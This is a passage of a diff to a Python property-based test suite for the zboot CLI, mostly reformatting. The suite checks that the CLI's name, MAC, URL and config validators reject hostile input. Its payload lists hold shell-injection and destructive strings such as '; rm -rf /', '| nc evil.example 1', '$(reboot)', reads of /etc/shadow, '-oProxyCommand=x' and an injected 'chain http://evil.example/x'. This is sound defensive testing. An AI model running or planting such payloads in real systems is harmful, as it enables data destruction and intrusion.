@@ -51,11 +51,16 @@ from zboot.ops.importer import FORMATS as IMAGE_FORMATS
 from zboot.remote.base import RecordingRunner
 
 EXAMPLES = 200  # hostile values per name, counted as they run
-HOSTILE = settings(max_examples=EXAMPLES, deadline=None, database=None,
-                   suppress_health_check=[HealthCheck.too_slow])
+HOSTILE = settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow],
+)
 
-SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "docs" /
-                     "json-envelope.schema.json").read_text())
+SCHEMA = json.loads(
+    (Path(__file__).resolve().parents[2] / "docs" / "json-envelope.schema.json").read_text()
+)
 ENVELOPE = jsonschema.Draft202012Validator(SCHEMA)
 
 # A local server (no [server] host), an engine zboot has to look up on the
@@ -78,6 +83,7 @@ GOOD_MAC = "52:54:00:12:34:56"
 
 
 # --- the server: a recorder, and nothing else --------------------------------
+
 
 class Recorder(RecordingRunner):
     """A RecordingRunner that also records reads and removals (RecordingRunner
@@ -136,10 +142,12 @@ def recorded_server() -> Iterator[Server]:
             server.spawned.append(args)
             raise AssertionError(f"zboot started a process: {args!r}")
 
-    with mock.patch("zboot.cli.session.LocalRunner", runner), \
-            mock.patch("zboot.remote.ssh.SshRunner", runner), \
-            mock.patch("zboot.zfs.lzc.lzc_available", lambda: False), \
-            mock.patch.object(subprocess, "Popen", NoProcess):
+    with (
+        mock.patch("zboot.cli.session.LocalRunner", runner),
+        mock.patch("zboot.remote.ssh.SshRunner", runner),
+        mock.patch("zboot.zfs.lzc.lzc_available", lambda: False),
+        mock.patch.object(subprocess, "Popen", NoProcess),
+    ):
         yield server
 
 
@@ -161,29 +169,102 @@ def zboot(args: Sequence[str]) -> tuple[int, str, Server]:
 
 # --- hostile strings ------------------------------------------------------------
 
-SHELL = [*";|&$`()<>{}[]*?!#~=%^\\'\"/@:., ", "\t", "\n", "\r", "\x00", "\x0b", "\x1b",
-         "\x7f"]
+SHELL = [*";|&$`()<>{}[]*?!#~=%^\\'\"/@:., ", "\t", "\n", "\r", "\x00", "\x0b", "\x1b", "\x7f"]
 # Characters that pass for ASCII ones on a screen, invisible ones, and ones
 # that case-fold or normalise into ASCII.
 LOOKALIKES = [
-    "\u0430", "\u0435", "\u043e", "\u0441", "\u0456", "\u0440",  # Cyrillic a e o s i p
-    "\u03bf", "\u03a1", "\u212a", "\u0131", "\u0130", "\u017f",  # Greek o P, Kelvin, i, I, long s
-    "\uff41", "\uff10", "\u0663", "\u00b2", "\u2160",  # fullwidth a, 0; Arabic 3; sup 2; Roman 1
-    "\u00a0", "\u2009", "\u3000", "\u200b", "\u200d", "\u2060", "\ufeff",  # spaces, zero-widths
-    "\u202e", "\u2066", "\u0301", "\u0338",  # bidi override and isolate, combining marks
-    "\u2010", "\u2011", "\u2212", "\ufe63", "\uff0d",  # hyphens and minus signs
-    "\u2024", "\uff0e", "\u3002", "\u2215", "\u2044", "\uff0f", "\uff1a", "\u02d0",  # . / :
-    "\U0001d41a", "\U0001f600",
+    "\u0430",
+    "\u0435",
+    "\u043e",
+    "\u0441",
+    "\u0456",
+    "\u0440",  # Cyrillic a e o s i p
+    "\u03bf",
+    "\u03a1",
+    "\u212a",
+    "\u0131",
+    "\u0130",
+    "\u017f",  # Greek o P, Kelvin, i, I, long s
+    "\uff41",
+    "\uff10",
+    "\u0663",
+    "\u00b2",
+    "\u2160",  # fullwidth a, 0; Arabic 3; sup 2; Roman 1
+    "\u00a0",
+    "\u2009",
+    "\u3000",
+    "\u200b",
+    "\u200d",
+    "\u2060",
+    "\ufeff",  # spaces, zero-widths
+    "\u202e",
+    "\u2066",
+    "\u0301",
+    "\u0338",  # bidi override and isolate, combining marks
+    "\u2010",
+    "\u2011",
+    "\u2212",
+    "\ufe63",
+    "\uff0d",  # hyphens and minus signs
+    "\u2024",
+    "\uff0e",
+    "\u3002",
+    "\u2215",
+    "\u2044",
+    "\uff0f",
+    "\uff1a",
+    "\u02d0",  # . / :
+    "\U0001d41a",
+    "\U0001f600",
 ]
 PAYLOADS = [
-    "", " ", "\t", "\n", "\x00", "-", "--", "-rf", "--help", "--yes", "-o", "..", ".", "/",
-    "../", "../../etc/shadow", "/dev/sda", "~root", "*", "?", "$(reboot)", "`id`", "${IFS}",
-    "$HOME", "; rm -rf /", "| nc evil.example 1", "&& halt", "|| true", "> /etc/passwd",
-    "< /etc/shadow", "a\nb", "a\rb", "a\x00b", "'", '"', "\\", "%s%n", "{a,b}", "!!", "#",
+    "",
+    " ",
+    "\t",
+    "\n",
+    "\x00",
+    "-",
+    "--",
+    "-rf",
+    "--help",
+    "--yes",
+    "-o",
+    "..",
+    ".",
+    "/",
+    "../",
+    "../../etc/shadow",
+    "/dev/sda",
+    "~root",
+    "*",
+    "?",
+    "$(reboot)",
+    "`id`",
+    "${IFS}",
+    "$HOME",
+    "; rm -rf /",
+    "| nc evil.example 1",
+    "&& halt",
+    "|| true",
+    "> /etc/passwd",
+    "< /etc/shadow",
+    "a\nb",
+    "a\rb",
+    "a\x00b",
+    "'",
+    '"',
+    "\\",
+    "%s%n",
+    "{a,b}",
+    "!!",
+    "#",
     "\u202eexe.txt",
 ]
-HOSTILE_CHARS = st.one_of(st.sampled_from(SHELL + LOOKALIKES),
-                          st.characters(min_codepoint=0x80), st.characters(max_codepoint=0x1f))
+HOSTILE_CHARS = st.one_of(
+    st.sampled_from(SHELL + LOOKALIKES),
+    st.characters(min_codepoint=0x80),
+    st.characters(max_codepoint=0x1F),
+)
 
 
 @st.composite
@@ -194,12 +275,11 @@ def tampered(draw: st.DrawFn, valid: st.SearchStrategy[str]) -> str:
         at = draw(st.integers(0, len(value)))
         bad = draw(HOSTILE_CHARS)
         replace = at < len(value) and draw(st.booleans())
-        value = value[:at] + bad + value[at + int(replace):]
+        value = value[:at] + bad + value[at + int(replace) :]
     return value
 
 
-def hostile(valid: st.SearchStrategy[str], known_bad: Sequence[str] = ()) -> \
-        st.SearchStrategy[str]:
+def hostile(valid: st.SearchStrategy[str], known_bad: Sequence[str] = ()) -> st.SearchStrategy[str]:
     """Candidate hostile values built around valid ones; the test keeps those
     the name's rule rejects."""
     return st.one_of(
@@ -244,9 +324,17 @@ def valid_mac(draw: st.DrawFn) -> str:
     octets[5] |= 1  # neither multicast nor all zeros
     digits = "".join(f"{o:02x}" for o in octets)
     digits = digits.upper() if draw(st.booleans()) else digits
-    pairs = [digits[i:i + 2] for i in range(0, 12, 2)]
-    return draw(st.sampled_from([":".join(pairs), "-".join(pairs), digits,
-                                 ".".join(digits[i:i + 4] for i in range(0, 12, 4))]))
+    pairs = [digits[i : i + 2] for i in range(0, 12, 2)]
+    return draw(
+        st.sampled_from(
+            [
+                ":".join(pairs),
+                "-".join(pairs),
+                digits,
+                ".".join(digits[i : i + 4] for i in range(0, 12, 4)),
+            ]
+        )
+    )
 
 
 @st.composite
@@ -258,19 +346,32 @@ def valid_iqn(draw: st.DrawFn) -> str:
     return f"iqn.{year}-{month:02d}.{domain}" + (f":{ident}" if ident else "")
 
 
-VALID_SIZE = st.tuples(st.integers(1, 4096), st.sampled_from(["", "K", "M", "G", "Ki", "GiB",
-                                                             "TB", "k"])).map(
-    lambda p: f"{p[0]}{p[1]}")
-VALID_DATASET = st.lists(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,8}", fullmatch=True)
-                         .filter(lambda c: c not in (".", "..")), min_size=1, max_size=3).map(
-    "/".join)
-VALID_SERVER = st.sampled_from(["local", "storage", "admin@storage.lan", "storage.lan:2222",
-                                "zb_admin@10.0.0.2:22", "[fd00::1]:22"])
+VALID_SIZE = st.tuples(
+    st.integers(1, 4096), st.sampled_from(["", "K", "M", "G", "Ki", "GiB", "TB", "k"])
+).map(lambda p: f"{p[0]}{p[1]}")
+VALID_DATASET = st.lists(
+    st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,8}", fullmatch=True).filter(
+        lambda c: c not in (".", "..")
+    ),
+    min_size=1,
+    max_size=3,
+).map("/".join)
+VALID_SERVER = st.sampled_from(
+    [
+        "local",
+        "storage",
+        "admin@storage.lan",
+        "storage.lan:2222",
+        "zb_admin@10.0.0.2:22",
+        "[fd00::1]:22",
+    ]
+)
 VALID_ADDRESS = st.sampled_from(["10.0.0.1", "boot.example.org", "fd00::1", "tftp-1"])
 VALID_COMPRESSION = st.sampled_from(["lz4", "zstd", "zstd-3", "gzip-9", "off", "zle"])
 
 
 # --- the rules, as zboot states them ---------------------------------------------
+
 
 @dataclass(frozen=True)
 class Rule:
@@ -294,9 +395,11 @@ def validator(function: Callable[[str], object]) -> Rule:
 
 def one_of(allowed: Sequence[str], what: str) -> Rule:
     """A word from a fixed list, as the CLI checks modes and formats."""
+
     def check(value: str) -> None:
         if value not in allowed:
             raise InvalidInput(f"{what} {value!r} is not one of {allowed}")
+
     return Rule(check)
 
 
@@ -309,10 +412,12 @@ def optional(rule: Rule) -> Rule:
 def read_back(rule: Rule, csv_file: bool) -> Rule:
     """The rule applied to what a hosts file hands zboot: each value stripped
     (and, a CSV being read as text, its \\r turned into \\n)."""
+
     def check(value: str) -> object:
         if csv_file:
             value = value.replace("\r\n", "\n").replace("\r", "\n")
         return rule.check(value.strip())
+
     return Rule(check, rule.uses)
 
 
@@ -320,13 +425,20 @@ def image_spec(version: str | None = None, image: str | None = None) -> Rule:
     """IMAGE[@VERSION] with the value under test as all of it, as its image
     (version given) or as its version (image given). NAME@ (an empty version)
     is refused, not read as NAME."""
+
     def check(value: str) -> None:
-        spec = f"{image}@{value}" if image is not None else \
-            value if version is None else f"{value}@{version}"
+        spec = (
+            f"{image}@{value}"
+            if image is not None
+            else value
+            if version is None
+            else f"{value}@{version}"
+        )
         name, at, ver = spec.partition("@")
         names.image_name(name)
         if at:
             names.snapshot_name(ver)
+
     return Rule(check, frozenset({"image_name", "snapshot_name"}))
 
 
@@ -334,9 +446,11 @@ def server_check(value: str) -> None:
     config_mod.parse_server(value)
 
 
-HOST_NAME, IMAGE_NAME, SNAPSHOT_NAME = (validator(names.host_name),
-                                        validator(names.image_name),
-                                        validator(names.snapshot_name))
+HOST_NAME, IMAGE_NAME, SNAPSHOT_NAME = (
+    validator(names.host_name),
+    validator(names.image_name),
+    validator(names.snapshot_name),
+)
 MAC, IQN, SIZE = validator(names.mac), validator(names.iqn), validator(names.size_bytes)
 DATASET, ADDRESS = validator(names.dataset_name), validator(names.address)
 COMPRESSION, MESSAGE = validator(names.compression), validator(names.message)
@@ -347,6 +461,7 @@ SERVER = Rule(server_check)
 
 
 # --- the cases: every name, in every place the CLI takes it ----------------------
+
 
 @dataclass(frozen=True)
 class Place:
@@ -384,29 +499,40 @@ def hosts_csv(column: str) -> Callable[[str, Place], list[str]]:
     def argv(value: str, p: Place) -> list[str]:
         row = {"host": "pc01", "mac": GOOD_MAC, "initiator": "", "chap": ""} | {column: value}
         out = io.StringIO()
-        writer = csv.DictWriter(out, fieldnames=list(row), quoting=csv.QUOTE_ALL,
-                                lineterminator="\n")
+        writer = csv.DictWriter(
+            out, fieldnames=list(row), quoting=csv.QUOTE_ALL, lineterminator="\n"
+        )
         writer.writeheader()
         writer.writerow(row)
         path = p.work / "hosts.csv"
         path.write_text(out.getvalue(), encoding="utf-8")
         return p.cli("clone", "--hosts", str(path), "golden")
+
     return argv
 
 
 def toml_string(value: str) -> str:
     """A TOML basic string holding value exactly (control characters escaped)."""
-    return '"' + "".join(f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F or c in '"\\'
-                         else c for c in value) + '"'
+    return (
+        '"'
+        + "".join(
+            f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F or c in '"\\' else c
+            for c in value
+        )
+        + '"'
+    )
 
 
 def hosts_toml(column: str) -> Callable[[str, Place], list[str]]:
     def argv(value: str, p: Place) -> list[str]:
         row = {"host": "pc01", "mac": GOOD_MAC} | {column: value}
         path = p.work / "hosts.toml"
-        path.write_text("[[host]]\n" + "".join(f"{k} = {toml_string(v)}\n"
-                                               for k, v in row.items()), encoding="utf-8")
+        path.write_text(
+            "[[host]]\n" + "".join(f"{k} = {toml_string(v)}\n" for k, v in row.items()),
+            encoding="utf-8",
+        )
         return p.cli("clone", "--hosts", str(path), "golden")
+
     return argv
 
 
@@ -416,9 +542,12 @@ def config_with(key: str) -> Callable[[str, Place], list[str]]:
         if key == "pool":
             zfs["root"] = value + "/zboot"
         path = p.work / "config.toml"
-        path.write_text("[zfs]\n" + "".join(f"{k} = {toml_string(v)}\n" for k, v in zfs.items()),
-                        encoding="utf-8")
+        path.write_text(
+            "[zfs]\n" + "".join(f"{k} = {toml_string(v)}\n" for k, v in zfs.items()),
+            encoding="utf-8",
+        )
         return ["--config", str(path), "--json", "list"]
+
     return argv
 
 
@@ -430,48 +559,156 @@ def disk(p: Place) -> str:
 
 
 HOST_BAD = ("-pc", "pc-", "pc.lan", "pc_01", "a" * 64, "\u03a1C01", "pc01\n")
-COMPONENT_BAD = ("A", "Debian", ".hidden", "-x", "_x", "a..b", "a" * 65, "x@y", "x/y", "x#y",
-                 "x%y", "\u212aey")
-MAC_BAD = ("01:00:5e:00:00:01", "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00", "52:54-00:12:34:56",
-           "52:54:00:12:34", "52:54:00:12:34:56:78", "52:54:00:12:34:5g", "5254.00123456",
-           "52 54 00 12 34 56", "52:54:00:12:34:56\n", "\uff15\uff12:54:00:12:34:56")
-IQN_BAD = ("iqn.2003-13.org.example", "iqn.0000-01.org.example", "eui.0123456789abcdef",
-           "naa.5000", "iqn.2003-01.org..example", "iqn.2003-01", "iqn.2003-01.org.example:a b",
-           "iqn.2003-01." + "a" * 230, "iqn.2003-01.org.\u212aexample", "iqn.2003-1.org.x")
-SIZE_BAD = ("0", "0G", "-1G", "1e9", "1.5", "10 G", "10GG", "9000P", "1_000", "0x10", "inf",
-            "NaN", "\u0661G", "1\u212a", "+1G", "1G\n")
-DATASET_BAD = ("/tank", "tank/", "tank//zboot", "tank/../etc", "tank/./x", "tank@snap",
-               "tank#bm", "-tank", "a" * 256, "tank/zb oot")
-SERVER_BAD = ("a b", "host;id", "user@", "@host", "host:", "host:99999", "host:0", "-x",
-              "-oProxyCommand=x", "host\n", "[::1", "Root@host", "host:22\n", ".host")
-ADDRESS_BAD = ("-x", "10.0.0.1; evil", "a b", "10.0.0.1\n", ".x", 'x"', "x}", "10.0.0.1#",
-               "http://10.0.0.1/")
+COMPONENT_BAD = (
+    "A",
+    "Debian",
+    ".hidden",
+    "-x",
+    "_x",
+    "a..b",
+    "a" * 65,
+    "x@y",
+    "x/y",
+    "x#y",
+    "x%y",
+    "\u212aey",
+)
+MAC_BAD = (
+    "01:00:5e:00:00:01",
+    "ff:ff:ff:ff:ff:ff",
+    "00:00:00:00:00:00",
+    "52:54-00:12:34:56",
+    "52:54:00:12:34",
+    "52:54:00:12:34:56:78",
+    "52:54:00:12:34:5g",
+    "5254.00123456",
+    "52 54 00 12 34 56",
+    "52:54:00:12:34:56\n",
+    "\uff15\uff12:54:00:12:34:56",
+)
+IQN_BAD = (
+    "iqn.2003-13.org.example",
+    "iqn.0000-01.org.example",
+    "eui.0123456789abcdef",
+    "naa.5000",
+    "iqn.2003-01.org..example",
+    "iqn.2003-01",
+    "iqn.2003-01.org.example:a b",
+    "iqn.2003-01." + "a" * 230,
+    "iqn.2003-01.org.\u212aexample",
+    "iqn.2003-1.org.x",
+)
+SIZE_BAD = (
+    "0",
+    "0G",
+    "-1G",
+    "1e9",
+    "1.5",
+    "10 G",
+    "10GG",
+    "9000P",
+    "1_000",
+    "0x10",
+    "inf",
+    "NaN",
+    "\u0661G",
+    "1\u212a",
+    "+1G",
+    "1G\n",
+)
+DATASET_BAD = (
+    "/tank",
+    "tank/",
+    "tank//zboot",
+    "tank/../etc",
+    "tank/./x",
+    "tank@snap",
+    "tank#bm",
+    "-tank",
+    "a" * 256,
+    "tank/zb oot",
+)
+SERVER_BAD = (
+    "a b",
+    "host;id",
+    "user@",
+    "@host",
+    "host:",
+    "host:99999",
+    "host:0",
+    "-x",
+    "-oProxyCommand=x",
+    "host\n",
+    "[::1",
+    "Root@host",
+    "host:22\n",
+    ".host",
+)
+ADDRESS_BAD = (
+    "-x",
+    "10.0.0.1; evil",
+    "a b",
+    "10.0.0.1\n",
+    ".x",
+    'x"',
+    "x}",
+    "10.0.0.1#",
+    "http://10.0.0.1/",
+)
 COMPRESSION_BAD = ("LZ4", "lz4 ", "-lz4", "lz4,gzip", "on\n", "zstd=3", "a" * 33)
-URL_BAD = ("http://10.0.0.1/winpe\nchain http://evil.example/x", "http://10.0.0.1/win pe",
-           "http://${next-server}/winpe", "http://10.0.0.1/'x'", 'http://10.0.0.1/"', "http://",
-           "ftp://10.0.0.1/winpe", "file:///etc/passwd", "HTTP://10.0.0.1/winpe", "10.0.0.1/winpe",
-           "-http://10.0.0.1/", "http://10.0.0.1/winpe;reboot", "http://10.0.0.1/\u0430",
-           "http://10.0.0.1/" + "a" * 2000, "http://10.0.0.1/winpe\r", "http://x/#frag",
-           "http://x/?a=b")
-WORD_BAD = ("Normal", "normal ", "maintenance\n", "install;reboot", "ISC", "json", "yes",
-            "One-Way", "true", "1", "raw ", "QCOW2", "iso")
+URL_BAD = (
+    "http://10.0.0.1/winpe\nchain http://evil.example/x",
+    "http://10.0.0.1/win pe",
+    "http://${next-server}/winpe",
+    "http://10.0.0.1/'x'",
+    'http://10.0.0.1/"',
+    "http://",
+    "ftp://10.0.0.1/winpe",
+    "file:///etc/passwd",
+    "HTTP://10.0.0.1/winpe",
+    "10.0.0.1/winpe",
+    "-http://10.0.0.1/",
+    "http://10.0.0.1/winpe;reboot",
+    "http://10.0.0.1/\u0430",
+    "http://10.0.0.1/" + "a" * 2000,
+    "http://10.0.0.1/winpe\r",
+    "http://x/#frag",
+    "http://x/?a=b",
+)
+WORD_BAD = (
+    "Normal",
+    "normal ",
+    "maintenance\n",
+    "install;reboot",
+    "ISC",
+    "json",
+    "yes",
+    "One-Way",
+    "true",
+    "1",
+    "raw ",
+    "QCOW2",
+    "iso",
+)
 
 HOST = valid_host()
 COMPONENT = valid_component()
 CONTROL = st.one_of(st.characters(max_codepoint=0x1F), st.just("\x7f"))
 MESSAGES = st.one_of(  # free text but for control characters and the length
     st.tuples(st.text(max_size=60), CONTROL, st.text(max_size=60)).map("".join),
-    st.tuples(st.text(max_size=60), st.text(CONTROL, min_size=1, max_size=5),
-              st.text(max_size=60)).map("".join),
+    st.tuples(
+        st.text(max_size=60), st.text(CONTROL, min_size=1, max_size=5), st.text(max_size=60)
+    ).map("".join),
     st.integers(1001, 5000).map(lambda n: "m" * n),
     st.tuples(st.text(max_size=60), st.integers(1001, 3000)).map(lambda p: p[0] + "m" * p[1]),
 )
 IQN_GOOD = "iqn.2003-01.org.example:pc01"
 URL_CHARS = LOWER + LOWER.upper() + DIGITS + "._~:/%@+=,-"
-VALID_URL = st.tuples(st.sampled_from(["http", "https", "tftp"]),
-                      st.sampled_from(["10.0.0.1", "boot.example.org", "[fd00::1]:8080",
-                                       "10.0.0.1:69"]),
-                      st.text(URL_CHARS, max_size=24)).map(lambda p: f"{p[0]}://{p[1]}/{p[2]}")
+VALID_URL = st.tuples(
+    st.sampled_from(["http", "https", "tftp"]),
+    st.sampled_from(["10.0.0.1", "boot.example.org", "[fd00::1]:8080", "10.0.0.1:69"]),
+    st.text(URL_CHARS, max_size=24),
+).map(lambda p: f"{p[0]}://{p[1]}/{p[2]}")
 WINPE_GOOD = "http://10.0.0.1/winpe"
 
 
@@ -482,125 +719,450 @@ def clone(*args: str) -> Callable[[str, Place], list[str]]:
 
 CASES: list[Case] = [
     # host names
-    Case("clone HOST", ("clone", "host"), HOST_NAME, HOST, "pc01",
-         clone("--mac", GOOD_MAC, "--", "golden", "{}"), HOST_BAD),
-    Case("show HOST", ("show", "host"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("show", "--", v), HOST_BAD),
-    Case("snapshot HOST...", ("snapshot", "hosts"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("snapshot", "--", *p.hosts(v)), HOST_BAD),
-    Case("rollback HOST...", ("rollback", "hosts"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("rollback", "--", *p.hosts(v)), HOST_BAD),
-    Case("prune HOST", ("prune", "host"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("prune", "--yes", "--", v), HOST_BAD),
-    Case("destroy HOST...", ("destroy", "hosts"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("destroy", "--yes", "--", *p.hosts(v)), HOST_BAD),
-    Case("mode HOST...", ("mode", "hosts"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("mode", "--", *p.hosts(v), "normal"), HOST_BAD),
-    Case("export show HOST", ("export show", "host"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("export", "show", "--", v), HOST_BAD),
-    Case("pxelinux HOST", ("pxelinux", "host"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("pxelinux", "--", v), HOST_BAD),
-    Case("dhcp HOST...", ("dhcp", "hosts"), HOST_NAME, HOST, "pc01",
-         lambda v, p: p.cli("dhcp", "--", *p.hosts(v)), HOST_BAD),
-    Case("clone --hosts CSV: host", ("clone", "hosts_file"), read_back(HOST_NAME, True), HOST,
-         "pc01", hosts_csv("host"), HOST_BAD),
-    Case("clone --hosts TOML: host", ("clone", "hosts_file"), read_back(HOST_NAME, False), HOST,
-         "pc01", hosts_toml("host"), HOST_BAD),
+    Case(
+        "clone HOST",
+        ("clone", "host"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        clone("--mac", GOOD_MAC, "--", "golden", "{}"),
+        HOST_BAD,
+    ),
+    Case(
+        "show HOST",
+        ("show", "host"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("show", "--", v),
+        HOST_BAD,
+    ),
+    Case(
+        "snapshot HOST...",
+        ("snapshot", "hosts"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("snapshot", "--", *p.hosts(v)),
+        HOST_BAD,
+    ),
+    Case(
+        "rollback HOST...",
+        ("rollback", "hosts"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("rollback", "--", *p.hosts(v)),
+        HOST_BAD,
+    ),
+    Case(
+        "prune HOST",
+        ("prune", "host"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("prune", "--yes", "--", v),
+        HOST_BAD,
+    ),
+    Case(
+        "destroy HOST...",
+        ("destroy", "hosts"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("destroy", "--yes", "--", *p.hosts(v)),
+        HOST_BAD,
+    ),
+    Case(
+        "mode HOST...",
+        ("mode", "hosts"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("mode", "--", *p.hosts(v), "normal"),
+        HOST_BAD,
+    ),
+    Case(
+        "export show HOST",
+        ("export show", "host"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("export", "show", "--", v),
+        HOST_BAD,
+    ),
+    Case(
+        "pxelinux HOST",
+        ("pxelinux", "host"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("pxelinux", "--", v),
+        HOST_BAD,
+    ),
+    Case(
+        "dhcp HOST...",
+        ("dhcp", "hosts"),
+        HOST_NAME,
+        HOST,
+        "pc01",
+        lambda v, p: p.cli("dhcp", "--", *p.hosts(v)),
+        HOST_BAD,
+    ),
+    Case(
+        "clone --hosts CSV: host",
+        ("clone", "hosts_file"),
+        read_back(HOST_NAME, True),
+        HOST,
+        "pc01",
+        hosts_csv("host"),
+        HOST_BAD,
+    ),
+    Case(
+        "clone --hosts TOML: host",
+        ("clone", "hosts_file"),
+        read_back(HOST_NAME, False),
+        HOST,
+        "pc01",
+        hosts_toml("host"),
+        HOST_BAD,
+    ),
     # image names
-    Case("clone IMAGE", ("clone", "image"), image_spec(), COMPONENT, "golden",
-         clone("--mac", GOOD_MAC, "--", "{}", "pc01"), COMPONENT_BAD),
-    Case("clone IMAGE@VERSION: image", ("clone", "image"), image_spec(version="v1"), COMPONENT,
-         "golden", clone("--mac", GOOD_MAC, "--", "{}@v1", "pc01"), COMPONENT_BAD),
-    Case("image create NAME", ("image create", "name"), IMAGE_NAME, COMPONENT, "golden",
-         lambda v, p: p.cli("image", "create", "--size", "1G", "--", v), COMPONENT_BAD),
-    Case("image import NAME", ("image import", "name"), IMAGE_NAME, COMPONENT, "golden",
-         lambda v, p: p.cli("image", "import", "--format", "raw", "--", v, disk(p)),
-         COMPONENT_BAD),
-    Case("image snapshot NAME", ("image snapshot", "name"), IMAGE_NAME, COMPONENT, "golden",
-         lambda v, p: p.cli("image", "snapshot", "--", v), COMPONENT_BAD),
-    Case("image show NAME", ("image show", "name"), IMAGE_NAME, COMPONENT, "golden",
-         lambda v, p: p.cli("image", "show", "--", v), COMPONENT_BAD),
-    Case("image destroy NAME", ("image destroy", "spec"), image_spec(), COMPONENT, "golden",
-         lambda v, p: p.cli("image", "destroy", "--yes", "--", v), COMPONENT_BAD),
-    Case("image destroy NAME@VERSION: name", ("image destroy", "spec"), image_spec(version="v1"),
-         COMPONENT, "golden",
-         lambda v, p: p.cli("image", "destroy", "--yes", "--", f"{v}@v1"), COMPONENT_BAD),
+    Case(
+        "clone IMAGE",
+        ("clone", "image"),
+        image_spec(),
+        COMPONENT,
+        "golden",
+        clone("--mac", GOOD_MAC, "--", "{}", "pc01"),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "clone IMAGE@VERSION: image",
+        ("clone", "image"),
+        image_spec(version="v1"),
+        COMPONENT,
+        "golden",
+        clone("--mac", GOOD_MAC, "--", "{}@v1", "pc01"),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image create NAME",
+        ("image create", "name"),
+        IMAGE_NAME,
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "create", "--size", "1G", "--", v),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image import NAME",
+        ("image import", "name"),
+        IMAGE_NAME,
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "import", "--format", "raw", "--", v, disk(p)),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image snapshot NAME",
+        ("image snapshot", "name"),
+        IMAGE_NAME,
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "snapshot", "--", v),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image show NAME",
+        ("image show", "name"),
+        IMAGE_NAME,
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "show", "--", v),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image destroy NAME",
+        ("image destroy", "spec"),
+        image_spec(),
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "destroy", "--yes", "--", v),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image destroy NAME@VERSION: name",
+        ("image destroy", "spec"),
+        image_spec(version="v1"),
+        COMPONENT,
+        "golden",
+        lambda v, p: p.cli("image", "destroy", "--yes", "--", f"{v}@v1"),
+        COMPONENT_BAD,
+    ),
     # image versions and restore points
-    Case("clone IMAGE@VERSION: version", ("clone", "image"),
-         image_spec(image="golden"), COMPONENT, "v1",
-         clone("--mac", GOOD_MAC, "--", "golden@{}", "pc01"), ("", *COMPONENT_BAD)),
-    Case("image snapshot NAME VERSION", ("image snapshot", "version"), SNAPSHOT_NAME, COMPONENT,
-         "v2", lambda v, p: p.cli("image", "snapshot", "--", "golden", v), COMPONENT_BAD),
-    Case("image destroy NAME@VERSION: version", ("image destroy", "spec"),
-         image_spec(image="golden"), COMPONENT, "v1",
-         lambda v, p: p.cli("image", "destroy", "--yes", "--", f"golden@{v}"), COMPONENT_BAD),
-    Case("snapshot --name", ("snapshot", "name"), SNAPSHOT_NAME, COMPONENT, "before-update",
-         lambda v, p: p.cli("snapshot", f"--name={v}", "--", *p.hosts("pc09")), COMPONENT_BAD),
-    Case("rollback --to", ("rollback", "to"), SNAPSHOT_NAME, COMPONENT, "before-update",
-         lambda v, p: p.cli("rollback", f"--to={v}", "--", *p.hosts("pc09")), COMPONENT_BAD),
+    Case(
+        "clone IMAGE@VERSION: version",
+        ("clone", "image"),
+        image_spec(image="golden"),
+        COMPONENT,
+        "v1",
+        clone("--mac", GOOD_MAC, "--", "golden@{}", "pc01"),
+        ("", *COMPONENT_BAD),
+    ),
+    Case(
+        "image snapshot NAME VERSION",
+        ("image snapshot", "version"),
+        SNAPSHOT_NAME,
+        COMPONENT,
+        "v2",
+        lambda v, p: p.cli("image", "snapshot", "--", "golden", v),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "image destroy NAME@VERSION: version",
+        ("image destroy", "spec"),
+        image_spec(image="golden"),
+        COMPONENT,
+        "v1",
+        lambda v, p: p.cli("image", "destroy", "--yes", "--", f"golden@{v}"),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "snapshot --name",
+        ("snapshot", "name"),
+        SNAPSHOT_NAME,
+        COMPONENT,
+        "before-update",
+        lambda v, p: p.cli("snapshot", f"--name={v}", "--", *p.hosts("pc09")),
+        COMPONENT_BAD,
+    ),
+    Case(
+        "rollback --to",
+        ("rollback", "to"),
+        SNAPSHOT_NAME,
+        COMPONENT,
+        "before-update",
+        lambda v, p: p.cli("rollback", f"--to={v}", "--", *p.hosts("pc09")),
+        COMPONENT_BAD,
+    ),
     # MAC addresses
-    Case("clone --mac", ("clone", "mac"), MAC, valid_mac(), GOOD_MAC,
